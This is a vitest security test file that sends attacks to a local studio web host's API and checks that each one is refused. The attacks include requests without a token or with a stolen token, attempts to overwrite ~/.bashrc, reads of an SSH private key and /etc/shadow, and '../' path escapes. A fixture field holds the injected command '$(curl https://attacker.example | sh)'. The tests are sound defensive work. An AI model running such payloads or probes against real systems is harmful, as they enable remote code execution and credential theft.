/**
 * Issue 11's attacks on `npm run web`, over real HTTP as an attacker sends
 * them: a caller without the token, and a caller WITH the token (a stolen one,
 * or a compromised page) trying to write and read files the user never chose.
 * Every attack must be refused with its code, and the files must be untouched.
 * The temp "home" stands in for the user's: `.bashrc`, `.ssh/id_rsa`.
 */
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { STUDIO_METHODS } from '../../electron/contract/studio-api';
import { startWebHost, type WebHost } from '../../electron/web/web-host';

const repo = join(import.meta.dirname, '..', '..');
const samplesDir = join(repo, 'samples');
const BASHRC = '# the user\'s own shell start-up\nexport PATH="$HOME/bin:$PATH"\n';
const ID_RSA = '-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key-but-secret\n-----END OPENSSH PRIVATE KEY-----\n';

interface Reply {
  status: number;
  text: string;
}

/** A raw request with the headers a browser on the page would send (Host right, no Origin). */
function send(host: WebHost, path: string, init: { method?: string; headers?: Record<string, string>; body?: string } = {}): Promise<Reply> {
  const { port } = new URL(host.url);
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, path, method: init.method ?? 'GET', headers: { host: `127.0.0.1:${port}`, ...init.headers } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text: Buffer.concat(chunks).toString('utf8') }));
    });
    req.on('error', reject);
    req.end(init.body);
  });
}

type Outcome = { ok: true; value: unknown } | { ok: false; error: { code: string; message: string; file?: string } };

/** Calls a method with the token, as the page (or whoever stole the token) does. */
async function call(host: WebHost, method: string, ...args: unknown[]): Promise<Outcome> {
  const reply = await send(host, `/api/${method}`, {
    method: 'POST',
    body: JSON.stringify(args),
    headers: { 'content-type': 'application/json', authorization: `Bearer ${host.token}` },
  });
  return JSON.parse(reply.text) as Outcome;
}

const codeOf = (outcome: Outcome): string => (outcome.ok ? 'ok' : outcome.error.code);

const projectText = (name: string, extra = '') =>
  `{\n  "formatVersion": 1,\n  "name": "${name}",\n  "description": "$(curl https://attacker.example | sh)",\n  "source": { "format": "json" },\n  "target": { "format": "json" }${extra}\n}\n`;

describe('the web host under attack', () => {
  let host: WebHost;
  let root: string;
  let home: string;
  let work: string;

  beforeAll(async () => {
    root = mkdtempSync(join(tmpdir(), 'mapwright-attack-'));
    home = join(root, 'home');
    mkdirSync(join(home, '.ssh'), { recursive: true });
    writeFileSync(join(home, '.bashrc'), BASHRC);
    writeFileSync(join(home, '.ssh', 'id_rsa'), ID_RSA);
    // A project the user really opened: its folder is granted, with a lookup CSV the project uses.
    work = join(root, 'work');
    mkdirSync(work);
    writeFileSync(join(work, 'codes.csv'), 'code,label\nA,Alpha\n');
    writeFileSync(
      join(work, 'mine.mapwright.json'),
      projectText('Mine', ',\n  "lookups": { "codes": { "file": "codes.csv", "keyColumn": "code", "valueColumn": "label" } }'),
    );
    host = await startWebHost({ samplesDir, settingsDir: join(root, 'settings'), startProject: join(work, 'mine.mapwright.json') });
  }, 120_000);

  afterAll(async () => {
    await host?.close();
    rmSync(root, { recursive: true, force: true });
  });

  it('refuses every API method without the token, or with a wrong one, before reading its arguments', async () => {
    for (const method of STUDIO_METHODS) {
      const without = await send(host, `/api/${method}`, { method: 'POST', body: '[]', headers: { 'content-type': 'application/json' } });
      expect(without.status, method).toBe(401);
      expect((JSON.parse(without.text) as Outcome & { ok: false }).error.code, method).toBe('ACCESS_DENIED');
      const wrong = await send(host, `/api/${method}`, { method: 'POST', body: '[]', headers: { 'content-type': 'application/json', authorization: 'Bearer wrong' } });
      expect(wrong.status, method).toBe(401);
    }
  });

  it('serves no repository file outside the renderer at /@fs, with or without the token', async () => {
    const targets = [
      join(repo, 'package.json'),
      join(repo, 'samples', 'crm-to-erp', 'crm-to-erp.mapwright.json'),
      join(repo, 'tests', 'security', 'web-host-attacks.test.ts'),
      join(repo, 'mapping-engine', 'node', 'read-file.ts'),
      join(repo, 'electron', 'backend', 'engine', 'file-access.ts'),
      join(home, '.ssh', 'id_rsa'),
      '/etc/passwd',
    ];
    for (const file of targets) {
      for (const headers of [{}, { authorization: `Bearer ${host.token}` }] as Record<string, string>[]) {
        for (const suffix of ['', '?raw', '?import', '?url']) {
          const reply = await send(host, `/@fs${file}${suffix}`, { headers });
          expect(reply.status, `${file}${suffix}`).not.toBe(200);
          expect(reply.text).not.toContain('not-a-real-key-but-secret');
          expect(reply.text).not.toContain('"devDependencies"');
        }
      }
    }
    // The renderer itself still loads (its entry and an engine module it imports).
    expect((await send(host, '/src/main.tsx')).status).toBe(200);
    expect((await send(host, `/@fs${join(repo, 'mapping-engine', 'errors.ts')}`)).status).toBe(200);
  });

  it('writes no "project" over ~/.bashrc, nor any file the user did not choose', async () => {
    const bashrc = join(home, '.bashrc');
    for (const path of [bashrc, join(home, 'evil.mapwright.json'), join(home, '.ssh', 'authorized_keys')]) {
      expect(codeOf(await call(host, 'saveProjectAs', { path, text: projectText('Evil') })), path).toBe('ACCESS_DENIED');
      expect(codeOf(await call(host, 'saveProject', { path, text: projectText('Evil'), force: true })), path).toBe('ACCESS_DENIED');
    }
    // Even a path typed in the studio's own Save As must be a project file name.
    expect(codeOf(await call(host, 'grantChosenPath', { path: bashrc, purpose: 'saveAs' }))).toBe('USAGE');
    expect(codeOf(await call(host, 'saveProjectAs', { path: bashrc, text: projectText('Evil') }))).toBe('ACCESS_DENIED');
    // A backup cannot smuggle the path in for a later restore and save.
    expect(codeOf(await call(host, 'backupUnsaved', { sessionId: 'attack', path: bashrc, text: projectText('Evil') }))).toBe('ACCESS_DENIED');
    expect(readFileSync(bashrc, 'utf8')).toBe(BASHRC);
    expect(readdirSync(home).sort()).toEqual(['.bashrc', '.ssh']);
  });

  it('does not let a project saved into ~/.ssh read id_rsa', async () => {
    const planted = join(home, '.ssh', 'planted.mapwright.json');
    // The token holder "chooses" the place in the studio's Save As: that grants the one file.
    expect(codeOf(await call(host, 'grantChosenPath', { path: planted, purpose: 'saveAs' }))).toBe('ok');
    expect(codeOf(await call(host, 'saveProjectAs', { path: planted, text: projectText('Planted') }))).toBe('ok');
    const readKey = () => call(host, 'readPayloadPreview', { projectPath: planted, file: 'id_rsa' });
    const importKey = () => call(host, 'importSample', { projectPath: planted, side: 'source', file: join(home, '.ssh', 'id_rsa') });
    expect(codeOf(await readKey())).toBe('ACCESS_DENIED');
    expect(codeOf(await importKey())).toBe('ACCESS_DENIED');
    // Reopening it (it is in the recent list now) does not grant its folder either.
    expect(codeOf(await call(host, 'openProject', planted))).toBe('ok');
    expect(codeOf(await readKey())).toBe('ACCESS_DENIED');
    expect(codeOf(await importKey())).toBe('ACCESS_DENIED');
    // Nor does "choosing" it in the studio's Open dialog: the page is untrusted, a typed Open never upgrades it.
    expect(codeOf(await call(host, 'grantChosenPath', { path: planted, purpose: 'open' }))).toBe('ok');
    expect(codeOf(await readKey())).toBe('ACCESS_DENIED');
    expect(codeOf(await importKey())).toBe('ACCESS_DENIED');
    // A schema or sample reference climbing out of the project is refused the same way.
    const escaping = projectText('Escaping', ',\n  "lookups": { "keys": { "file": "../.bashrc", "keyColumn": "a", "valueColumn": "b" } }');
    const compiled = await call(host, 'compileDocument', { projectPath: planted, text: escaping });
    expect(codeOf(compiled)).toBe('ACCESS_DENIED');
    expect(JSON.stringify(compiled)).not.toContain(home);
    expect(readdirSync(join(home, '.ssh')).filter((name) => !name.startsWith('planted')).sort()).toEqual(['id_rsa']);
  });

  it('answers checkDisk for an ungranted path with one refusal, whether the file exists or not', async () => {
    const stamp = { mtimeMs: 0, size: 0, sha256: '0'.repeat(64) };
    const existing = await call(host, 'checkDisk', join(home, '.ssh', 'id_rsa'), stamp);
    const existingProject = await call(host, 'checkDisk', join(repo, 'package.mapwright.json'), stamp);
    const missing = await call(host, 'checkDisk', join(home, 'nothing-here.mapwright.json'), stamp);
    const etc = await call(host, 'checkDisk', '/etc/shadow', stamp);
    for (const outcome of [existing, existingProject, missing, etc]) {
      expect(codeOf(outcome)).toBe('ACCESS_DENIED');
      expect(JSON.stringify(outcome)).not.toMatch(/sha256|mtime|size|not found|ENOENT/i);
    }
    // The refusal reads the same for the existing key and the missing file, apart from the path itself.
    const shape = (outcome: Outcome, path: string) => (outcome.ok ? '' : outcome.error.message.replace(path, '<path>'));
    expect(shape(existing, join(home, '.ssh', 'id_rsa'))).toBe(shape(missing, join(home, 'nothing-here.mapwright.json')));
  });

  it('does not export over the lookup CSV the project uses, nor over the project file', async () => {
    const project = join(work, 'mine.mapwright.json');
    // The project the host was started with is granted (its folder too).
    expect(codeOf(await call(host, 'openProject', project))).toBe('ok');
    const csv = join(work, 'codes.csv');
    const before = readFileSync(csv, 'utf8');
    expect(codeOf(await call(host, 'exportSpecToFile', { projectPath: project, kind: 'csv', runTests: false, outPath: csv }))).toBe('ACCESS_DENIED');
    expect(codeOf(await call(host, 'exportSpecToFile', { projectPath: project, kind: 'document', runTests: false, outPath: project }))).toBe('ACCESS_DENIED');
    // Inside the opened folder, an export with its kind's extension is fine; another extension is not.
    expect(codeOf(await call(host, 'exportSpecToFile', { projectPath: project, kind: 'md', runTests: false, outPath: join(work, 'spec.md') }))).toBe('ok');
    expect(codeOf(await call(host, 'exportSpecToFile', { projectPath: project, kind: 'md', runTests: false, outPath: join(work, 'run.sh') }))).toBe('ACCESS_DENIED');
    expect(readFileSync(csv, 'utf8')).toBe(before);
  });

  it('never writes into the bundled samples', async () => {
    const sample = join(samplesDir, 'crm-to-erp', 'crm-to-erp.mapwright.json');
    const text = readFileSync(sample, 'utf8');
    expect(codeOf(await call(host, 'saveProject', { path: sample, text, force: true }))).toBe('ACCESS_DENIED');
    expect(codeOf(await call(host, 'saveProjectAs', { path: join(samplesDir, 'crm-to-erp', 'other.mapwright.json'), text }))).toBe('ACCESS_DENIED');
    expect(readFileSync(sample, 'utf8')).toBe(text);
  });
});
